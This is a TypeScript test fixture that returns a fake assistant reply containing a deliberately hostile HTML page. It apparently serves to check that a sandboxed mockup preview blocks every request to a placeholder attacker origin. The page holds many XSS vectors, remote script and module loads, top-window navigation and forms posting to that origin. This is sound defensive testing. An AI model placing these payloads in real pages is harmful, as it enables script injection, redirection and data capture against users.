/**
 * A mockup that tries every way to run, load, navigate or store something.
 *
 * @param attacker the origin of the attacker, which must receive no request
 */
export function hostileMockup(attacker: string): string {
  return `Sure! Here is your page:
\`\`\`html
<!doctype html>
<html>
  <head>
    <title>Hostile</title>
    <base href="${attacker}/base/" target="_top">
    <meta http-equiv="refresh" content="0; url=${attacker}/refresh">
    <link rel="stylesheet" href="${attacker}/style.css">
    <link rel="preconnect" href="${attacker}">
    <link rel="dns-prefetch" href="${attacker}">
    <link rel="prefetch" href="${attacker}/prefetch">
    <style>
      @import url("${attacker}/import.css");
      @font-face { font-family: Foreign; src: url("${attacker}/font.woff2"); }
      h1 { color: rgb(1, 2, 3); font-family: Foreign, serif; }
      body { background: url("${attacker}/background.png"); }
      .card { border-top: 7px solid rgb(4, 5, 6); display: grid; }
    </style>
    <script>parent.document.title = 'taken'; alert(1)</script>
    <script src="${attacker}/script.js"></script>
    <script type="module">import '${attacker}/module.js'; top.location = '${attacker}/top'</script>
  </head>
  <body onload="alert(2)" onpageshow="top.location = '${attacker}/onload'">
    <h1 id="top">Cycle Shop</h1>
    <p style="letter-spacing: 3px">Inline styles show.</p>
    <div class="card">Card</div>
    <p id="scripted">Untouched</p>
    <script>document.getElementById('scripted').textContent = 'Scripts run'</script>
    <noscript><p>Shown without scripts</p></noscript>
    <img src="${attacker}/image.png" onerror="alert(3)" alt="External picture">
    <img src="data:image/png;base64,iVBORw0KGgo=" onerror="alert(4)" srcset="${attacker}/set.png 2x" alt="Broken picture">
    <picture><source srcset="${attacker}/source.png"><img alt="Picture" src="${attacker}/picture.png"></picture>
    <video src="${attacker}/video.mp4" poster="${attacker}/poster.png" autoplay></video>
    <audio src="${attacker}/audio.mp3" autoplay></audio>
    <svg width="9" height="9" onload="alert(5)"><image href="${attacker}/svg.png" /><use href="${attacker}/use.svg#a" /></svg>
    <iframe src="${attacker}/frame"></iframe>
    <iframe srcdoc="<script>top.alert(6)</script>"></iframe>
    <object data="${attacker}/object"></object>
    <embed src="${attacker}/embed">
    <nav>
      <a href="${attacker}/link">Link</a>
      <a href="${attacker}/link-top" target="_top">Link top</a>
      <a href="${attacker}/link-self" target="_self">Link self</a>
      <a href="${attacker}/link-blank" target="_blank" rel="opener">Link blank</a>
      <a href="${attacker}/link-parent" target="_parent">Link parent</a>
      <a href="${attacker}/ping" ping="${attacker}/pinged">Link ping</a>
      <a href="${attacker}/file" download>Link download</a>
      <a href="/create">Link to the application</a>
      <a href="javascript:alert(7)">Link script</a>
      <a href="data:text/html,<script>alert(8)</script>">Link data</a>
      <a href="#" onclick="alert(9); window.open('${attacker}/opened')">Link to nothing</a>
      <a href="#plans">Link to plans</a>
    </nav>
    <form action="${attacker}/form" method="post" target="_top" onsubmit="alert(10)">
      <input name="email" aria-label="Email" autofocus onfocus="alert(11)">
      <button formaction="${attacker}/formaction" formtarget="_blank">Send</button>
    </form>
    <form><input name="q" aria-label="Search"><input type="submit" value="Find"></form>
    <h2 id="plans">Plans</h2>
  </body>
</html>
\`\`\`
I hope you like it!`;
}
